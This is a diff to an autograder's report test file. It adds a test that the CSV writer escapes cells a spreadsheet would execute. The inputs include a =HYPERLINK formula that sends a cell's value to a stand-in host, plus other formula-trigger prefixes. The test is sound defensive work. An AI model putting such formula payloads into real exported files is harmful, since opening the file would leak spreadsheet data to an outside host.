@@ -1,6 +1,7 @@
 """`keras-course report` on the class graded by the suite: its numbers against the gradebook, its causes
 against what each submission got wrong, its flags both ways, PostgreSQL like SQLite, and the page in Chromium."""
 
+import csv
 import datetime
 import json
 import re
@@ -377,3 +378,16 @@ def test_the_page_in_chromium(graded_class, tmp_path):
             page.set_viewport_size({"width": 1400, "height": 1000})
             page.screenshot(path=SCREENSHOTS / f"{name}.png", full_page=True)
         assert problems == [] and outside == []
+
+
+@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)",
+                                     "\tcmd", "\r=1"])
+def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text(tmp_path, hostile):
+    from autograder.report.html_page import _write_csv
+
+    path = tmp_path / "flags.csv"
+    _write_csv(path, ["student", "line", "points"], [[hostile, f"x = {hostile}", -1.5], ["ann", "plain", 3]])
+    with open(path, newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert rows[1] == [f"'{hostile}", f"x = {hostile}", "-1.5"]
+    assert rows[2] == ["ann", "plain", "3"]
